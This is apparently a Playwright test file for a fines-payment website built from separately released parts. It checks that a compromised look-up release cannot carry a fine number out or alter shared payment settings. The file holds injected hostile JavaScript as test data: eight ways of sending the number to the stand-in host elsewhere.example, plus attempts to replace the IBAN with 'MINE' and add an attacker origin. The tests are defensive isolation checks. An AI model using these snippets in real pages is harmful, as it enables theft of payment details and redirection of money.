/// <reference lib="dom" />
import type { Page } from 'playwright/test';
import { releasePastChecks } from '../set-up/release-past-checks.ts';
import { expect, test } from '../set-up/test.ts';
import { openHandOver } from '../pay/set-up/hand-over.ts';
import { samples } from '@amendes/fines/testing/sample-fines.ts';
import { addCode } from './set-up/add-code.ts';

/* What a release of the look-up or of the information pages can do to somebody who pays, in the same page. */

test.use({ expectedErrors: /May not|Refused to|violates the following/ });

const { number } = samples.payable;

/** Each carries the number out; run in the page, which it leaves when it succeeds. */
const ways: Readonly<Record<string, string>> = {
  'a new window': `open('https://elsewhere.example/?' + n)`,
  'a new window that is led on': `open('about:blank').location = 'https://elsewhere.example/?' + n`,
  'the location': `location.href = 'https://elsewhere.example/?' + n`,
  'the location, replaced': `location.replace('https://elsewhere.example/?' + n)`,
  'a link that is clicked by a script': `const a = document.createElement('a'); a.href = 'https://elsewhere.example/?' + n; document.body.append(a); a.click()`,
  'a link to a new window': `const a = document.createElement('a'); a.href = 'https://elsewhere.example/?' + n; a.target = '_blank'; document.body.append(a); a.click()`,
  'a link that nobody sees': `const a = document.createElement('a'); a.href = 'https://elsewhere.example/?' + n; a.target = '_blank'; a.click()`,
  'a refresh': `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=https://elsewhere.example/?' + n; document.head.append(m)`,
};

/** The addresses elsewhere that the browser was sent to. */
function noteDepartures(page: Page): readonly string[] {
  const departures: string[] = [];
  page.context().on('request', (request) => {
    if (request.url().includes('elsewhere.example')) departures.push(request.url());
  });
  return departures;
}

for (const [way, code] of Object.entries(ways)) {
  test(`a part carries no number out by ${way}`, async ({ page, fragileSite }) => {
    const hostile = `addEventListener('carry', () => { const n = '${number}'; ${code}; });`;
    await releasePastChecks(fragileSite.folder, 'lookup', addCode(hostile));
    await page
      .context()
      .route('https://elsewhere.example/**', (route) =>
        route.fulfill({ contentType: 'text/html', body: 'carried' }),
      );
    const departures = noteDepartures(page);
    await page.goto(`${fragileSite.origin}/tai`);
    await expect(page.locator('[data-boundary="lookup"]')).toBeVisible();
    await page.evaluate(() => dispatchEvent(new Event('carry')));
    await page.waitForTimeout(1000);
    expect(departures).toEqual([]);
    await expect(page.locator('[data-boundary="lookup"]')).toBeVisible();
  });
}

test('while somebody pays, nothing of another part comes into the page', async ({ page }) => {
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (/\/releases\/(lookup|static-pages)\//.test(request.url())) foreign.push(request.url());
  });
  await openHandOver(page, samples.payable);
  for (const link of await page.locator('header a[href^="/tai"], footer a[href^="/tai"]').all()) {
    await link.hover();
    await link.focus();
  }
  await page.waitForTimeout(1500);
  await page.waitForLoadState('networkidle');
  expect(foreign).toEqual([]);
  await expect(page.locator('[data-boundary="payment"]')).toBeVisible();
  // Where nobody pays, the same link brings the part of its page.
  await page.goto(`/tai/amende/${samples.payable.number}/${samples.payable.key}`);
  await page.locator('footer a[href^="/tai"]').first().hover();
  await expect.poll(() => foreign.length).toBeGreaterThan(0);
});

test('no part changes what another is lent of accounts and providers', async ({
  page,
  fragileSite,
}) => {
  const hostile = `
    addEventListener('carry', () => {
      const attempt = (act) => { try { act(); } catch {} };
      globalThis.outcome = [];
      for (const { shareScopeMap } of globalThis.__FEDERATION__.__INSTANCES__) {
        for (const { '@amendes/contract': versions } of Object.values(shareScopeMap)) {
          for (const { lib } of Object.values(versions ?? {})) {
            const contract = lib();
            const read = () => JSON.stringify(contract.currentConfiguration());
            const before = read();
            attempt(() => { contract.currentConfiguration().transfer.iban = 'MINE'; });
            attempt(() => { contract.currentConfiguration().transfer = { iban: 'MINE' }; });
            attempt(() => { contract.currentConfiguration().providerOrigins.push('https://elsewhere.example'); });
            attempt(() => { contract.currentConfiguration = () => ({ transfer: { iban: 'MINE' } }); });
            attempt(() => { Object.defineProperty(contract, 'currentConfiguration', { value: () => ({}) }); });
            globalThis.outcome.push(before.includes('"iban"'), read() === before);
          }
        }
      }
    });`;
  await releasePastChecks(fragileSite.folder, 'lookup', addCode(hostile));
  await page.goto(`${fragileSite.origin}/tai`);
  await expect(page.locator('[data-boundary="lookup"]')).toBeVisible();
  await page.evaluate(() => dispatchEvent(new Event('carry')));
  const outcome = await page.evaluate(() => Reflect.get(globalThis, 'outcome') as boolean[]);
  expect(outcome.length).toBeGreaterThan(0);
  expect(outcome).not.toContain(false);
});

test('a link to another site is still a link', async ({ page }) => {
  await page
    .context()
    .route('https://www.antai.gouv.fr/**', (route) =>
      route.fulfill({ contentType: 'text/html', body: 'there' }),
    );
  await page.goto('/tai');
  await expect(page.locator('[data-boundary="lookup"]')).toBeVisible();
  await page.getByRole('contentinfo').locator('a[href^="https://www.antai"]').click();
  await expect(page.locator('body')).toHaveText('there');
});
